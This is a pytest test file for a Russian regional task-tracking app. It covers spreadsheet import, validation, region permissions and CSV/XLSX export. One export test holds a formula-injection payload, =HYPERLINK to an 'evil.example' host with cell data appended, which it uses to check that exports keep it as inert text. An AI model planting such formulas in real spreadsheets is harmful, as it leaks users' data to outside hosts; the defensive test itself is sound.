"""Lists of tasks from spreadsheets as offices send them, and exports that go back in."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, func, select

from tsifra.accounts import create_user
from tsifra.kernel.problems import Forbidden, ValidationFailed
from tsifra.store import AuditEntry, Task, session_scope
from tsifra.tasks.listing import TaskFilter, find_tasks
from tsifra.tasks.sheets import export_csv, export_xlsx, import_tasks
from tsifra.tasks.tasks import TaskDraft, create_task

HEADER = [
    "№",
    "Содержание поручения",
    "Источник",
    "Номер документа",
    "Дата документа",
    "Субъект РФ",
    "Ответственный орган",
    "Ответственный",
    "Показатель",
    "Целевое значение",
    "Срок исполнения",
]
EMR = "Доля граждан, для которых ведётся электронная медицинская карта"


def _sheet(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["Перечень поручений по итогам совещания"])  # a title row, as offices send
    sheet.append([])
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


GOOD = [
    [1, "Подключить ФАПы к РМИС", "Президент РФ", "Пр-1234", datetime(2026, 3, 1),
     "Республика Татарстан", "Минздрав РТ", "Иванов И. И.", EMR, "95,5", datetime(2026, 12, 1)],
    [2, "Запись к врачу онлайн", "Правительство", "", "", "г. Москва", "ДИТ",
     "Петров П. П.", "health_online_appointment", 80, "15.10.2026"],
    [3, "Электронный дневник", "Минцифры России", "", "", "Чувашия", "", "Сидоров С. С.",
     "", "", 46387],  # an Excel serial day: 31.12.2026
]  # fmt: skip


@pytest.fixture
def analyst(store: Engine):
    return create_user(store, "fed", "long-enough-pass", "analyst")


def test_a_sheet_with_names_and_dates_in_every_form(store: Engine, analyst) -> None:
    ids = import_tasks(store, analyst, "list.xlsx", _sheet(GOOD))
    assert len(ids) == 3
    tasks = {t.title: t for t in find_tasks(store, analyst, TaskFilter()).tasks}
    fap = tasks["Подключить ФАПы к РМИС"]
    assert (fap.region, fap.source, fap.document_number) == ("RU-TA", "president", "Пр-1234")
    assert (fap.document_date, fap.deadline) == (date(2026, 3, 1), date(2026, 12, 1))
    assert (fap.indicator, fap.target_value, fap.agency) == ("health_emr", 95.5, "Минздрав РТ")
    online = tasks["Запись к врачу онлайн"]
    assert (online.region, online.source, online.deadline) == (
        "RU-MOW",
        "government",
        date(2026, 10, 15),
    )
    assert online.indicator == "health_online_appointment" and online.target_value == 80
    diary = tasks["Электронный дневник"]
    assert (diary.region, diary.source, diary.deadline) == (
        "RU-CU",
        "mintsifry",
        date(2026, 12, 31),
    )


def test_every_problem_located_and_nothing_written(store: Engine, analyst) -> None:
    bad = [
        GOOD[0],
        [2, "Без срока", "Президент", "", "", "Нарния", "", "Кто-то", "", "", "завтра"],
        [3, "", "Совет старейшин", "", "", "Татарстан", "", "", "нет такого", "много",
         "01.01.2027"],
    ]  # fmt: skip
    with pytest.raises(ValidationFailed) as caught:
        import_tasks(store, analyst, "list.xlsx", _sheet(bad))
    found = {(p.row, p.column, p.code) for p in caught.value.problems}
    assert found == {
        (5, "Субъект РФ", "task_region_unknown"),
        (5, "Срок исполнения", "task_bad_date"),
        (6, "Содержание поручения", "task_cell_missing"),
        (6, "Ответственный", "task_cell_missing"),
        (6, "Источник", "task_source_unknown"),
        (6, "Показатель", "task_indicator_unknown"),
        (6, "Целевое значение", "task_bad_number"),
    }
    message = next(p for p in caught.value.problems if p.code == "task_region_unknown")
    assert "Нарния" in message.message("ru") and "ОКАТО" in message.message("ru")
    with session_scope(store) as session:
        assert session.scalar(select(func.count()).select_from(Task)) == 0


def test_an_operator_imports_only_its_own_region(store: Engine) -> None:
    op = create_user(store, "op", "long-enough-pass", "operator", region="RU-TA")
    with pytest.raises(ValidationFailed) as caught:
        import_tasks(store, op, "list.xlsx", _sheet(GOOD))
    assert {(p.row, p.code) for p in caught.value.problems} == {
        (5, "task_region_not_yours"),
        (6, "task_region_not_yours"),
    }
    assert len(import_tasks(store, op, "list.xlsx", _sheet(GOOD[:1]))) == 1
    viewer = create_user(store, "view", "long-enough-pass", "viewer")
    with pytest.raises(Forbidden):
        import_tasks(store, viewer, "list.xlsx", _sheet(GOOD))
    with session_scope(store) as session:
        refusals = session.scalars(
            select(AuditEntry.actor).where(AuditEntry.action == "refused.task.import")
        ).all()
    assert refusals == ["op", "view"]


def test_not_a_workbook_and_no_header(store: Engine, analyst) -> None:
    with pytest.raises(ValidationFailed) as caught:
        import_tasks(store, analyst, "list.xlsx", b"not a workbook")
    assert [p.code for p in caught.value.problems] == ["task_sheet_unreadable"]
    book = Workbook()
    book.active.append(["что-то", "совсем", "другое"])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(ValidationFailed) as caught:
        import_tasks(store, analyst, "list.xlsx", out.getvalue())
    assert [p.code for p in caught.value.problems] == ["task_sheet_no_header"]


def test_exports_carry_names_stay_text_and_go_back_in(store: Engine, analyst) -> None:
    import_tasks(store, analyst, "list.xlsx", _sheet(GOOD))
    evil_title = '=HYPERLINK("http://evil.example/?"&A1)'
    create_task(store, analyst, TaskDraft(evil_title, "RU-TA", "-1+2", date(2026, 12, 1)))
    tasks = find_tasks(store, analyst, TaskFilter()).tasks

    text = export_csv(store, tasks, "ru").decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:3] == ["Поручение", "Источник", "Номер документа"]
    by_title = {r[0]: r for r in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in by_title
    fap = by_title["Подключить ФАПы к РМИС"]
    assert (fap[1], fap[5], fap[10], fap[12]) == (
        "Президент",
        "Республика Татарстан",
        EMR,
        "01.12.2026",
    )

    data = export_xlsx(store, tasks, "ru")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    titles = [row[0] for row in cells[1:]]
    evil = next(c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPER"))
    assert evil.data_type == "s"  # a string cell: never run as a formula
    assert "Подключить ФАПы к РМИС" in titles

    with session_scope(store) as session:  # the export is a template: it imports as it was
        before = session.scalar(select(func.count()).select_from(Task))
    import_tasks(store, analyst, "export.xlsx", data)
    with session_scope(store) as session:
        assert session.scalar(select(func.count()).select_from(Task)) == 2 * before


def test_a_name_of_two_regions_is_never_guessed(store: Engine, analyst) -> None:
    row = [[1, "Поручение", "Другое", "", "", "Алтай", "", "Иванов", "", "", "01.12.2026"]]
    with pytest.raises(ValidationFailed) as caught:
        import_tasks(store, analyst, "list.xlsx", _sheet(row))
    assert [(p.row, p.code) for p in caught.value.problems] == [(4, "task_region_ambiguous")]
